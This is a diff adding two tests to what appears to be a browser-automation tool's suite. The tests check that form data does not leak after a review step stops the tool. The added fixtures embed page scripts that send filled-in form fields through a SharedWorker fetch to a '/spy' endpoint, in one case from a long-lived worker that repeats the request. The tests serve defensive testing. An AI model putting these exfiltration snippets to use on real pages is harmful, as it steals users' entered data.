@@ -71,6 +71,37 @@ describe('before the approval', () => {
     expect(sites.connections).not.toContain('other');
   });
 
+  it('nothing leaves by a worker of nobody’s because the user has another page in hand', async () => {
+    const { signal } = new AbortController();
+    const inHand = await browser.host.open(sites.page('/in-hand', asPage('<p>Yours</p>')), {
+      label: 'a',
+      signal,
+    });
+    inHand.takeover.take('app');
+    const url = sites.page(
+      'other /filled',
+      asPage(
+        `<form id="f">${QUESTIONS}</form><script>const to = '${sites.own}'; f.onchange = () => { const data = new URLSearchParams(new FormData(f)).toString(); for (const mode of ['no-cors', 'cors']) new SharedWorker(URL.createObjectURL(new Blob(["fetch('" + to + "/spy?" + data + "', { mode: '" + mode + "' })"]))) };</script>`,
+      ),
+    );
+    await apply(browser.host, { url, hooks: { review: async () => ({ decision: 'stop' }) } });
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    await inHand.close();
+    expect(sites.arrived.filter(({ path }) => path.startsWith('/spy'))).toEqual([]);
+  });
+
+  it('nothing leaves by a worker that outlives its page', async () => {
+    const url = sites.page(
+      '/outlived',
+      spying(
+        `new SharedWorker(URL.createObjectURL(new Blob(["setInterval(() => fetch('" + to + "/spy?" + data + "', { mode: 'no-cors' }).catch(() => 0), 100)"])), { extendedLifetime: true })`,
+      ),
+    );
+    await apply(browser.host, { url, hooks: { review: async () => ({ decision: 'stop' }) } });
+    await new Promise((resolve) => setTimeout(resolve, 1500));
+    expect(sites.leaked()).toEqual([]);
+  });
+
   it('a captcha frame opens no way out', async () => {
     const captcha = `<iframe src="${sites.other}/recaptcha/api2/anchor" title="reCAPTCHA" width="304" height="78"></iframe>`;
     const url = sites.page(
